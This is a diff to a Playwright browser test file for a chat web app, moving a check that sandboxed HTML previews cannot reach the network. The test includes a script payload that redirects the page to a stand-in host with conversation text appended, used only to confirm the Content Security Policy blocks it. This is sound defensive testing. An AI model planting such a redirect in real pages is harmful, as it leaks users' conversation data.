@@ -17,7 +17,7 @@ from playwright.sync_api import FrameLocator, Locator, expect
 from qwen35mm.contract import Event, Finished, TextDelta
 from qwen35mm.web.serving import previews
 from tests.chat.fake_backend import FakeBackend, make_result
-from tests.web.browser import ChatPage, OpenPage
+from tests.web.browser import ChatPage
 
 pytestmark = pytest.mark.browser
 
@@ -76,8 +76,8 @@ def frame_of(block: Locator) -> FrameLocator:
     return block.frame_locator(".preview iframe")
 
 
-def test_code_and_tables_are_copied_and_saved_as_they_were_written(open_page: OpenPage) -> None:
-    page = open_page(permissions=["clipboard-read", "clipboard-write"])
+def test_code_and_tables_are_copied_and_saved_and_an_html_preview_reaches_nothing(page: ChatPage) -> None:
+    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
     page.ask(f"echo ```python\n{CODE}\n```\n\n{TABLE}\n\nthe end")
     page.wait_ending("the end")
     tool = page.answers.last.get_by_role("button", name="Copy code")
@@ -94,6 +94,23 @@ def test_code_and_tables_are_copied_and_saved_as_they_were_written(open_page: Op
         "shape-how-many.csv",
         f"\ufeff{csv}",
     )
+    page.context.clear_permissions()
+    # A preview.
+    leaving = "<script>location = 'http://127.0.0.1:1/?' + 'what was said'</script>"
+    page.ask(f"echo ```html\n{NOSY}\n```\n\n```html\n{leaving}\n```")
+    page.wait_answered(2)
+    nosy, leaver = page.answers.last.locator(".block").all()
+    nosy.get_by_role("button", name="Preview").click()
+    expect(frame_of(nosy).locator("#said")).to_have_text("tried:  null")
+    leaver.get_by_role("button", name="Preview").click()
+    for refusal in ("Framing 'http://127.0.0.1:1/'", "Blocked opening"):
+        page.wait_until(lambda refusal=refusal: any(refusal in problem for problem in page.problems))
+    # Each was refused by the browser, which says so, and none was sent.
+    assert all("Content Security Policy" in problem or "sandbox" in problem for problem in page.problems)
+    page.forgive()
+    # Opened by itself it has no origin either.
+    header = "async () => (await fetch('qwen35mm/preview')).headers.get('content-security-policy')"
+    assert page.page.evaluate(header).startswith("sandbox allow-scripts; default-src 'none'; ")
 
 
 @pytest.mark.slow
@@ -132,24 +149,6 @@ def test_what_is_still_written_has_no_tools_and_an_open_preview_stays(
     first.get_by_role("button", name="Close preview").click()
     expect(page.answers.last.locator("iframe")).to_have_count(1)
     page.page.emulate_media(color_scheme=None)
-
-
-def test_an_html_preview_reaches_nothing(page: ChatPage) -> None:
-    leaving = "<script>location = 'http://127.0.0.1:1/?' + 'what was said'</script>"
-    page.ask(f"echo ```html\n{NOSY}\n```\n\n```html\n{leaving}\n```")
-    page.wait_answered()
-    nosy, leaver = page.answers.last.locator(".block").all()
-    nosy.get_by_role("button", name="Preview").click()
-    expect(frame_of(nosy).locator("#said")).to_have_text("tried:  null")
-    leaver.get_by_role("button", name="Preview").click()
-    for refusal in ("Framing 'http://127.0.0.1:1/'", "Blocked opening"):
-        page.wait_until(lambda refusal=refusal: any(refusal in problem for problem in page.problems))
-    # Each was refused by the browser, which says so, and none was sent.
-    assert all("Content Security Policy" in problem or "sandbox" in problem for problem in page.problems)
-    page.forgive()
-    # Opened by itself it has no origin either.
-    header = "async () => (await fetch('qwen35mm/preview')).headers.get('content-security-policy')"
-    assert page.page.evaluate(header).startswith("sandbox allow-scripts; default-src 'none'; ")
 
 
 def test_a_diagram_is_drawn_once_mermaid_is_installed(page: ChatPage, monkeypatch: pytest.MonkeyPatch) -> None:
